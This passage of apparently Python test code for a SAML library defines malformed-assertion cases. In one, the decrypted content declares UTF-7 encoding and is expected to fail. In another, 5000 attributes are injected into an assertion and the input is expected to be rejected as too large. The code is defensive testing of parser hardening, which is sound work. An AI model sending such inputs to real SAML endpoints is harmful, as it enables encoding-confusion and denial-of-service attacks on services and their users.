       _in_context_plaintext(lambda p: b'<?xml version="1.0" encoding="UTF-7"?>' + p),
       ("decrypt-failed",), options={"sp_key": True},
       about="decrypted content declared UTF-7"),
    _a("encrypted-in-context-many-attributes",
       _in_context_plaintext(lambda p: p.replace(
           b"<saml:Assertion ", b"<saml:Assertion " + b"".join(
               b"a%d='' " % i for i in range(5000)), 1)),
       ("too-large",), options={"sp_key": True},
       about="5000 attributes in the decrypted content"),
]
